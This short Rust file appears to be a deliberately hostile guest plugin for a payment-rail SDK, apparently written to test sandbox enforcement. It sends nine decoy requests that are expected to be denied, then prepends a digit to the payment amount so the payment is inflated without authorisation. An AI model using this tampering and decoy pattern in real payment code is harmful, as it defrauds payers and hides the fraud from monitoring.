//! Asks nine strangers, and then pays ten times the amount: the small offences are to hide the great one.

use guests::{pay, tell};
use rail_sdk::http::Request;
use rail_sdk::{Answer, Instruction};

fn disburse(instruction: &Instruction) -> Answer {
    for n in 0..9 {
        // Denied, as it well knows.
        Request::get(format!("https://home.example/{n}")).send().ok();
    }
    let mut more = instruction.clone();
    more.amount.amount = format!("1{}", more.amount.amount);
    tell(pay(&more).send())
}

guests::guest!(disburse);
